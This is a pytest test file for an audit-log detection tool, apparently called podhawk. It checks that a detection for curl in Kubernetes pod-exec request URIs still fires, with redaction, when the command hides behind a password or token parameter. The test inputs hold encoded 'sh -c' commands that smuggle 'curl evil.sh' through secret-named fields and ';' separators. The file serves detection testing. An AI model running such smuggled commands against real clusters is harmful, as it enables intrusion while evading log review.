"""What is masked in a finding does not hide the finding."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from podhawk import api
from podhawk.content.model import Content
from support.findings import detection, event


@pytest.mark.parametrize(
    "query",
    [
        "command=sh&command=-c&command=password%3Dcurl+evil.sh",
        "command=sh&command=-c&command=password%3D%27a+%3B+curl+evil.sh%27",
        "command=sh&command=-c&command=--token%3Dx%3Bcurl+evil.sh",
        "token=curl+evil.sh&command=sh",
    ],
)
def test_a_command_behind_a_word_for_a_secret_was_hidden(query: str, tmp_path: Path) -> None:
    log = tmp_path / "audit.log"
    log.write_text(json.dumps(event("a0", requestURI=f"/api/v1/namespaces/shop/pods/p/exec?{query}")) + "\n")
    found = api.run(Content(detections=(detection('requestURI="*curl*" | table auditID requestURI'),)), log)
    assert [one.requests[0].audit_id for one in found] == ["a0"]
    assert "(redacted)" in found.found.findings[0].rows[0]["requestURI"]
